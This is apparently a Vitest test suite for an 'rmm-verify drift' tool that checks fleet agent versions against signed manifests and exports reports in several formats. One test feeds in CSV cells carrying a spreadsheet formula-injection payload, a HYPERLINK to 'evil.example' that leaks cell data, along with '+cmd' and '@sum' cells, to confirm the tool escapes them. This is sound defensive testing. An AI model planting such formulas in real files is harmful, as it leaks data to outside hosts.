import { spawnSync } from 'node:child_process';
import { lstatSync } from 'node:fs';
import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';

import { beforeAll, describe, expect, it } from 'vitest';

import { main } from '../../src/cli/main.ts';
import type { DriftReport } from '../../src/fleet/report.ts';
import { captureIo } from '../helpers/io.ts';
import { workspace } from '../helpers/signed-manifest.ts';
import {
  acmeManifest,
  csvOf,
  makeFleetFixtures,
  NOW,
  type FleetFixtures,
} from '../fixtures/fleet/make-fixtures.ts';

let fx: FleetFixtures;
beforeAll(async () => {
  fx = await makeFleetFixtures();
});

async function drift(...args: string[]) {
  const captured = captureIo(fx.dir, NOW);
  // The fixtures' manifests are unsigned; the signature tests pass --trust themselves.
  const unsigned = args.includes('--trust') || args.includes('--help') ? [] : ['--allow-unsigned-manifests'];
  const code = await main(['drift', ...args, ...unsigned], captured.io);
  return { code, stdout: captured.stdout(), stderr: captured.stderr() };
}

describe('rmm-verify drift', () => {
  it('prints help and refuses bad usage with exit 2', async () => {
    const help = await drift('--help');
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('--manifest');
    expect((await drift(fx.csv)).code).toBe(2);
    expect((await drift('--manifest', fx.manifest)).code).toBe(2);
    expect((await drift(fx.csv, '--manifest', fx.manifest, '--format', 'pdf')).code).toBe(2);
    expect((await drift(fx.csv, '--manifest', fx.manifest, '--stale', 'soon')).code).toBe(2);
  });

  it('reads named presets and dates in a given order; a log that yields no agent is exit 2', async () => {
    const formats = new URL('../../examples/fleet/formats/', import.meta.url).pathname;
    const intune = await drift(
      join(formats, 'intune-appinvrawdata.csv'),
      '--manifest',
      fx.manifest,
      '--preset',
      'intune',
      '--tenant',
      'contoso',
      '--format',
      'json',
      '--fail-on',
      'critical',
    );
    expect(intune.stderr).not.toMatch(/error/);
    expect((JSON.parse(intune.stdout) as DriftReport).drift.fleet).toMatchObject({ rows: 3, agents: 2 });
    expect((await drift(fx.csv, '--manifest', fx.manifest, '--preset', 'sccm')).code).toBe(2);
    expect((await drift(fx.csv, '--manifest', fx.manifest, '--date-format', 'ymd')).code).toBe(2);
    const us = join(formats, 'powershell-export-csv.csv');
    const ambiguous = await drift(us, '--manifest', fx.manifest);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toMatch(/--date-format mdy or dmy/);
    const dated = await drift(us, '--manifest', fx.manifest, '--date-format', 'mdy', '--format', 'json');
    expect((JSON.parse(dated.stdout) as DriftReport).drift.fleet).toMatchObject({ rows: 2, agents: 2 });
    // Every agent of this batched log is removed again: nothing to judge is not a pass.
    const removed = join(fx.dir, 'all-removed.log');
    const batch = (await readFile(join(formats, 'osqueryd-batched.log'), 'utf8')).split('\n')[0] as string;
    await writeFile(
      removed,
      `${batch}\n${batch.replace('"diffResults":{"added"', '"diffResults":{"removed"').replace('"removed":[]', '"added":[]')}\n`,
    );
    const none = await drift(removed, '--manifest', fx.manifest, '--fail-on', 'high');
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/all-removed\.log: no inventory row/);
  });

  it('exits 1 with drift and 0 on a clean fleet; the JSON carries the rollups', async () => {
    const run = await drift(fx.csv, '--manifest', fx.manifest, '--config', fx.config, '--format', 'json');
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as DriftReport;
    expect(report.command).toBe('drift');
    expect(report.drift.fleet).toMatchObject({ agents: 10, onTarget: 2, tenants: 3 });
    expect(report.subjects.map((s) => s.subject).sort()).toEqual(['contoso', 'fabrikam', 'northwind']);
    expect(report.findings).toFailWith('DRIFT_REVOKED');

    const clean = join(fx.dir, 'cli-clean.csv');
    await writeFile(
      clean,
      csvOf([['t', 'e', 'h', 'acme-agent', '7.4.2', '', 'linux-x64', '2026-11-28T00:00:00Z']]),
    );
    const ok = await drift(clean, '--manifest', fx.manifest);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('100%');
  });

  it('honours --fail-on', async () => {
    const run = await drift(
      fx.csv,
      '--manifest',
      fx.manifest,
      '--config',
      fx.config,
      '--fail-on',
      'critical',
      '--format',
      'json',
    );
    expect(run.code).toBe(1);
    const ahead = join(fx.dir, 'cli-ahead.csv');
    await writeFile(
      ahead,
      csvOf([['t', 'e', 'h', 'acme-agent', '7.5.0', '', 'linux-x64', '2026-11-28T00:00:00Z']]),
    );
    // 7.5.0 is ahead of the target (low) and not a release the manifest lists (high).
    expect((await drift(ahead, '--manifest', fx.manifest)).code).toBe(1);
    expect((await drift(ahead, '--manifest', fx.manifest, '--fail-on', 'high')).code).toBe(1);
    expect((await drift(ahead, '--manifest', fx.manifest, '--fail-on', 'critical')).code).toBe(0);
  });

  it('exits 2 for a file that is not an inventory, and for a malformed row with --strict', async () => {
    const notInventory = await drift(fx.notInventory, '--manifest', fx.manifest);
    expect(notInventory.code).toBe(2);
    expect(notInventory.stderr).toContain('notes.txt');
    const lenient = await drift(fx.malformed, '--manifest', fx.manifest, '--format', 'json');
    expect(lenient.code).toBe(1);
    expect((JSON.parse(lenient.stdout) as DriftReport).drift.fleet.malformedRows).toBe(5);
    const strict = await drift(fx.malformed, '--manifest', fx.manifest, '--strict');
    expect(strict.code).toBe(2);
    expect(strict.stderr).toMatch(/malformed\.csv:3/);
  });

  it('writes CSV that spreadsheets cannot run as formulas', async () => {
    const hostile = join(fx.dir, 'hostile.csv');
    await writeFile(
      hostile,
      csvOf([
        [
          '=HYPERLINK("http://evil.example/?"&A1)',
          'e1',
          'h',
          'acme-agent',
          '7.4.0',
          '',
          'linux-x64',
          '2026-11-28T00:00:00Z',
        ],
        ['+cmd', '-e2', 'h', 'acme-agent', '7.4.0', '', 'linux-x64', '2026-11-28T00:00:00Z'],
        ['@sum', 'e3', 'h', 'acme-agent', '7.4.0', '', 'linux-x64', '2026-11-28T00:00:00Z'],
      ]).replace('=HYPERLINK("http://evil.example/?"&A1)', '"=HYPERLINK(""http://evil.example/?""&A1)"'),
    );
    const run = await drift(hostile, '--manifest', fx.manifest, '--format', 'csv');
    expect(run.code).toBe(1);
    const cells = run.stdout.split(/\r\n/).flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(run.stdout).toContain("'=HYPERLINK");
    expect(run.stdout).toContain("'+cmd/-e2");
    expect(run.stdout).toContain("'@sum/e3");
  });

  it('renders SARIF 2.1.0, JUnit XML, Markdown and self-contained HTML from the same findings', async () => {
    const base = [fx.csv, '--manifest', fx.manifest, '--config', fx.config];
    const json = JSON.parse((await drift(...base, '--format', 'json')).stdout) as DriftReport;
    const sarif = JSON.parse((await drift(...base, '--format', 'sarif')).stdout) as {
      version: string;
      runs: { results: unknown[] }[];
    };
    expect(sarif.version).toBe('2.1.0');
    // SARIF carries failures only: every finding that is not info.
    expect(sarif.runs[0]?.results).toHaveLength(json.findings.filter((f) => f.severity !== 'info').length);
    const junit = (await drift(...base, '--format', 'junit')).stdout;
    expect(junit).toMatch(/^<\?xml/);
    expect(junit).toContain('DRIFT_REVOKED');
    // Each failure once: a failing tenant is one failed test case, its endpoints' findings inside it.
    const failedTenants = json.subjects.filter((s) => s.result === 'fail').length;
    expect(failedTenants).toBeGreaterThan(0);
    expect(junit).toContain(`<testsuites name="rmm-verify drift" tests="4" failures="${failedTenants}"`);
    expect(junit.match(/<failure /g)).toHaveLength(failedTenants);
    const markdown = (await drift(...base, '--format', 'markdown')).stdout;
    expect(markdown).toContain('## Fleet drift');
    expect(markdown).toContain(`| Agents \\(one primary status each\\) | ${json.drift.fleet.agents} |`);
    expect(markdown).toMatch(/of 3 tenants passed; 10 agents, each counted once by its primary status/);
    // --allow-unsigned-manifests is recorded in every format, not only on stderr.
    const csv = (await drift(...base, '--format', 'csv')).stdout;
    expect(json.notices?.[0]).toMatch(/--allow-unsigned-manifests/);
    expect(json.findings.some((f) => f.code === 'MANIFEST_SIGNATURES_NOT_CHECKED')).toBe(true);
    expect(JSON.stringify((sarif.runs[0] as { properties?: unknown }).properties)).toMatch(
      /--allow-unsigned-manifests/,
    );
    for (const output of [junit, markdown, csv]) expect(output).toMatch(/--allow-unsigned-manifests/);
    expect(Buffer.byteLength(markdown)).toBeLessThan(1 << 20);
    const htmlPath = join(fx.dir, 'cli-report.html');
    expect((await drift(...base, '--format', 'html', '--output', htmlPath)).code).toBe(1);
    const html = await readFile(htmlPath, 'utf8');
    expect(html).toMatch(
      /class="notice"[^>]*>manifest signatures were not checked \(--allow-unsigned-manifests\)/,
    );
    expect(html).toContain('Content-Security-Policy');
    expect(html).not.toMatch(/<(?:script|link|img)[^>]+(?:src|href)=/i);
    const text = (await drift(...base)).stdout;
    expect(text).toContain('Tenant x product x primary status');
    expect(text).toMatch(/contoso\s+acme-agent\s+revoked\s+critical\s+1\s+0/);
    expect(text).toMatch(
      /FAIL: 0 of 3 tenants passed; 10 agents, each counted once by its primary status: 2 on target \(20%\)/,
    );
    expect(text).toContain('NOTICE: manifest signatures were not checked (--allow-unsigned-manifests)');
  });

  it('--output: a directory is an input error (exit 2) with nothing left behind; a symlink is written through', async () => {
    const outDir = join(fx.dir, 'cli-out-dir');
    await mkdir(outDir, { recursive: true });
    const refused = await drift(fx.csv, '--manifest', fx.manifest, '--output', outDir);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/not a regular file/);
    expect(await readdir(outDir)).toEqual([]);
    expect((await readdir(fx.dir)).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    const target = join(fx.dir, 'cli-out-target.json');
    const link = join(fx.dir, 'cli-out-link.json');
    await writeFile(target, 'old');
    await rm(link, { force: true });
    await symlink(target, link);
    expect((await drift(fx.csv, '--manifest', fx.manifest, '--format', 'json', '--output', link)).code).toBe(
      1,
    );
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(JSON.parse(await readFile(target, 'utf8'))).toMatchObject({ command: 'drift' });
  });

  it('reads relative paths against the working directory it is given and names files as given', async () => {
    const absolute = await drift(fx.csv, '--manifest', fx.manifest, '--format', 'json');
    const rel = await drift(
      relative(fx.dir, fx.csv),
      '--manifest',
      relative(fx.dir, fx.manifest),
      '--format',
      'json',
    );
    expect(rel.code).toBe(absolute.code);
    const a = JSON.parse(absolute.stdout) as DriftReport;
    const r = JSON.parse(rel.stdout) as DriftReport;
    expect(a.drift.fleet.agents).toBeGreaterThan(0);
    expect(r.drift.fleet).toEqual(a.drift.fleet);
    expect(JSON.stringify(r.findings)).toContain(relative(fx.dir, fx.csv));
  });

  it('refuses to use manifests without a trust root unless --allow-unsigned-manifests says so', async () => {
    const captured = captureIo(fx.dir, NOW);
    const code = await main(['drift', fx.csv, '--manifest', fx.manifest], captured.io);
    expect(code).toBe(2);
    expect(captured.stderr()).toMatch(/no trust root: pass --trust FILE/);
    const allowed = await drift(fx.csv, '--manifest', fx.manifest, '--format', 'json');
    expect(allowed.stderr).toMatch(/manifest signatures are not checked/);
  });

  it('checks manifest signatures with --trust', async () => {
    const ws = await workspace({ threshold: 1, keyCount: 1 });
    await ws.writeManifest({ ...acmeManifest(), expires: '2027-05-01T00:00:00Z' });
    const clean = await ws.writeFile(
      'clean.csv',
      csvOf([['t', 'e', 'h', 'acme-agent', '7.4.2', '', 'linux-x64', '2026-11-28T00:00:00Z']]),
    );
    const trusted = await drift(
      clean,
      '--manifest',
      ws.manifestPath,
      '--trust',
      ws.trustPath,
      '--format',
      'json',
    );
    expect(trusted.stderr).toBe('');
    expect(trusted.code).toBe(0);
    const unsigned = await ws.writeFile('manifests/unsigned.json', JSON.stringify(acmeManifest()));
    const untrusted = await drift(clean, '--manifest', unsigned, '--trust', ws.trustPath, '--format', 'json');
    expect(untrusted.code).toBe(1);
    expect((JSON.parse(untrusted.stdout) as DriftReport).findings).toFailWith('MANIFEST_SIGNATURE_MISSING');
    // With --state, a manifest whose serial goes backwards is a rollback and is not applied.
    const state = join(ws.dir, 'state.json');
    const withState = [
      clean,
      '--manifest',
      ws.manifestPath,
      '--trust',
      ws.trustPath,
      '--state',
      state,
      '--format',
      'json',
    ];
    expect((await drift(...withState)).code).toBe(0);
    await ws.writeManifest({ ...acmeManifest(), serial: 41, expires: '2027-05-01T00:00:00Z' });
    const rolledBack = await drift(...withState);
    expect(rolledBack.code).toBe(1);
    expect((JSON.parse(rolledBack.stdout) as DriftReport).findings).toFailWith('MANIFEST_ROLLBACK');
    expect((await drift(clean, '--manifest', ws.manifestPath, '--state', state)).code).toBe(2);
  });

  it('runs as a real process reading stdin', () => {
    const script = `import { main } from ${JSON.stringify(new URL('../../src/cli/main.ts', import.meta.url).href)};
      process.exitCode = await main(process.argv.slice(1));`;
    const result = spawnSync(
      process.execPath,
      [
        '--input-type=module',
        '-e',
        script,
        '--',
        'drift',
        '-',
        '--manifest',
        fx.manifest,
        '--allow-unsigned-manifests',
        '--format',
        'json',
      ],
      {
        input: csvOf([['t', 'e', 'h', 'Acme RMM Agent', '7.4.0', '', 'linux-x64', new Date().toISOString()]]),
        encoding: 'utf8',
        timeout: 60_000,
      },
    );
    expect(result.status).toBe(1);
    expect((JSON.parse(result.stdout) as DriftReport).drift.fleet.classes.behind).toBe(1);
  });
});
